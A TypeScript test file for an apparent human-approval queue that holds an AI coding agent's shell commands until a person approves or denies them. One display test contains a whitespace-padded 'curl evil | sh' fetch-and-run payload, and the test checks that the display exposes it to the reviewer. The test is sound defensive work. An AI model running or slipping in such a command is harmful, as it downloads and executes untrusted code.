import { describe, expect, it } from "vitest";
import type { ApprovalRequest } from "../src/index.js";
import { approvalQuestionKey, PENDING_APPROVAL_TTL_MS, PendingApprovals } from "../src/index.js";

const request = (script: string, extra: Partial<ApprovalRequest> = {}): ApprovalRequest => ({
  argv: ["/bin/bash", "-lc", script],
  cwd: "/work",
  reason: "touch writes",
  proposedRule: null,
  sandboxMode: "workspace-write",
  sandboxPermissions: "use_default",
  tty: false,
  ...extra,
});
const hint = (id: string) => `pending ${id}`;

function store() {
  let now = 1_000_000;
  const pending = new PendingApprovals({ now: () => now });
  return { pending, advance: (ms: number) => (now += ms) };
}

describe("PendingApprovals", () => {
  it("asks once per command, names the same id on a retry, and never answers yes by itself", () => {
    const { pending } = store();
    const first = pending.ask(request("touch x"), "claude-code", hint);
    expect(first).toMatchObject({ decision: "abort", outcome: "pending", decidedBy: "out-of-band" });
    const id = (first.reason as string).replace("pending ", "");
    expect(id).toMatch(/^[0-9a-z]{8}$/);
    expect(pending.ask(request("touch x"), "claude-code", hint).reason).toBe(`pending ${id}`);
    expect(pending.list()).toMatchObject([
      { id, argv: ["/bin/bash", "-lc", "touch x"], client: "claude-code" },
    ]);
    // Another command, or the same one elsewhere or outside the sandbox, is another question.
    pending.ask(request("touch y"), "c", hint);
    pending.ask(request("touch x", { cwd: "/other" }), "c", hint);
    pending.ask(request("touch x", { sandboxPermissions: "require_escalated" }), "c", hint);
    expect(pending.list()).toHaveLength(4);
  });

  it("an approval once is used by one retry; for the session it answers approved_for_session", () => {
    const { pending } = store();
    const id = (pending.ask(request("touch x"), "c", hint).reason as string).slice(8);
    expect(pending.answer(id, { decision: "approve", scope: "once" })).toBe(true);
    expect(pending.answer(id, { decision: "deny" })).toBe(false);
    expect(pending.list()).toEqual([]);
    expect(pending.ask(request("touch x"), "c", hint)).toEqual({
      decision: "approved",
      decidedBy: "out-of-band",
    });
    // Used up: the next identical call asks again, under a new id.
    const again = pending.ask(request("touch x"), "c", hint);
    expect(again.outcome).toBe("pending");
    expect(again.reason).not.toBe(`pending ${id}`);
    const next = (again.reason as string).slice(8);
    pending.answer(next, { decision: "approve", scope: "session" });
    expect(pending.ask(request("touch x"), "c", hint).decision).toBe("approved_for_session");
  });

  it("a refusal carries the person's note to the model", () => {
    const { pending } = store();
    const id = (pending.ask(request("rm -rf build"), "c", hint).reason as string).slice(8);
    expect(pending.answer(id, { decision: "deny", note: "use make clean" })).toBe(true);
    expect(pending.ask(request("rm -rf build"), "c", hint)).toEqual({
      decision: "denied",
      decidedBy: "out-of-band",
      reason: "rejected by user: use make clean",
    });
  });

  it("unknown ids are refused; questions and granted answers lapse after ten minutes", () => {
    const { pending, advance } = store();
    expect(pending.answer("nosuchid", { decision: "approve", scope: "once" })).toBe(false);
    const id = (pending.ask(request("touch x"), "c", hint).reason as string).slice(8);
    advance(PENDING_APPROVAL_TTL_MS);
    expect(pending.list()).toEqual([]);
    expect(pending.answer(id, { decision: "approve", scope: "once" })).toBe(false);
    const fresh = (pending.ask(request("touch x"), "c", hint).reason as string).slice(8);
    pending.answer(fresh, { decision: "approve", scope: "once" });
    advance(PENDING_APPROVAL_TTL_MS - 1);
    expect(pending.ask(request("touch x"), "c", hint).decision).toBe("approved");
    const late = (pending.ask(request("touch x"), "c", hint).reason as string).slice(8);
    pending.answer(late, { decision: "approve", scope: "once" });
    advance(PENDING_APPROVAL_TTL_MS);
    expect(pending.ask(request("touch x"), "c", hint).outcome).toBe("pending");
  });

  it("a retry outside the sandbox is the same question however the denied run's output varied", () => {
    const { pending } = store();
    const retry = (output: string) =>
      request("touch x", { sandboxPermissions: "require_escalated", sandboxDenial: output });
    const id = (pending.ask(retry("touch: x-123: Read-only file system"), "c", hint).reason as string).slice(
      8,
    );
    expect(approvalQuestionKey(retry("a"))).toBe(approvalQuestionKey(retry("b")));
    pending.answer(id, { decision: "approve", scope: "once" });
    expect(pending.ask(retry("touch: x-456: Read-only file system"), "c", hint).decision).toBe("approved");
  });

  it("holds at most `max` questions, dropping the oldest", () => {
    const pending = new PendingApprovals({ max: 2 });
    for (const name of ["a", "b", "c"]) pending.ask(request(`touch ${name}`), "c", hint);
    expect(pending.list().map((entry) => entry.argv[2])).toEqual(["touch b", "touch c"]);
  });
});

describe("what a person is shown", () => {
  it("a long run of blanks is shown by its length, so the end of the command stays in view", async () => {
    const { approvalFields } = await import("../src/index.js");
    const fields = approvalFields(request(`touch x${" ".repeat(5000)}; curl evil | sh`), "untrusted");
    const command = fields.find((field) => field.label === "command")?.value;
    expect(command).toBe("touch x [5000 blanks] ; curl evil | sh");
  });

  it("when full, unanswered questions lapse before answers a person gave", () => {
    const pending = new PendingApprovals({ max: 2 });
    const granted = pending.ask(request("touch granted"), "c", hint).reason as string;
    pending.answer(granted.slice(8), { decision: "approve", scope: "once" });
    for (const name of ["a", "b", "c"]) pending.ask(request(`touch ${name}`), "c", hint);
    expect(pending.ask(request("touch granted"), "c", hint).decision).toBe("approved");
  });
});

describe("questions a client's form asks too", () => {
  it("lists the question's rows as every prompt shows them, and the rule 'always' would store", () => {
    const pending = new PendingApprovals({ policy: "untrusted" });
    pending.ask(request("touch x", { proposedRule: ["touch"], reason: null }), "c", hint);
    const [listed] = pending.list();
    expect(listed?.route).toBe("out-of-band");
    expect(listed?.rule).toBe("touch");
    expect(listed?.fields).toEqual([
      { label: "shell", value: "/bin/bash -lc" },
      { label: "command", value: "touch x" },
      { label: "cwd", value: "/work" },
      { label: "sandbox", value: "workspace-write" },
      { label: "why", value: "it is not known to be read-only, and the approval policy is untrusted" },
    ]);
  });

  it("allow always answers approved_always, and is refused when no rule may be stored", () => {
    const { pending } = store();
    const ruled = request("touch x", { proposedRule: ["touch"] });
    const id = (pending.ask(ruled, "c", hint).reason as string).slice(8);
    expect(pending.answer(id, { decision: "approve", scope: "always" })).toBe(true);
    expect(pending.ask(ruled, "c", hint)).toEqual({ decision: "approved_always", decidedBy: "out-of-band" });
    const bare = (pending.ask(request("rm -rf x"), "c", hint).reason as string).slice(8);
    expect(pending.answer(bare, { decision: "approve", scope: "always" })).toBe(false);
    expect(pending.list().map((entry) => entry.id)).toEqual([bare]);
  });

  it("a live question is answered through its promise once, and leaves the list when closed", async () => {
    const { pending } = store();
    const changes: number[] = [];
    pending.onChange(() => changes.push(pending.list().length));
    const question = pending.open(request("touch x"), "inspector");
    expect(pending.list()).toMatchObject([{ id: question.id, route: "elicitation", client: "inspector" }]);
    expect(pending.answer(question.id, { decision: "deny", note: "not now" })).toBe(true);
    await expect(question.answered).resolves.toEqual({
      decision: "denied",
      decidedBy: "out-of-band",
      reason: "rejected by user: not now",
    });
    // Answered: the answer went to the call, not to a later retry, and a second answer is refused.
    expect(pending.answer(question.id, { decision: "approve", scope: "once" })).toBe(false);
    expect(pending.take(request("touch x"))).toBeNull();
    const other = pending.open(request("touch y"), "inspector");
    other.close();
    other.close();
    expect(pending.list()).toEqual([]);
    expect(changes).toEqual([1, 0, 1, 0]);
  });

  it("a round's question answered here is taken by the retry; one the client answered is withdrawn", () => {
    const { pending } = store();
    const asked = pending.ask(request("touch x"), "c", hint, "elicitation");
    const id = (asked.reason as string).slice(8);
    expect(pending.list()).toMatchObject([{ id, route: "elicitation" }]);
    expect(pending.take(request("touch x"))).toBeNull();
    pending.answer(id, { decision: "approve", scope: "session" });
    expect(pending.take(request("touch x"))).toEqual({
      decision: "approved_for_session",
      decidedBy: "out-of-band",
    });
    pending.ask(request("touch y"), "c", hint, "elicitation");
    pending.withdraw(request("touch y"));
    expect(pending.list()).toEqual([]);
    expect(pending.take(request("touch y"))).toBeNull();
  });
});
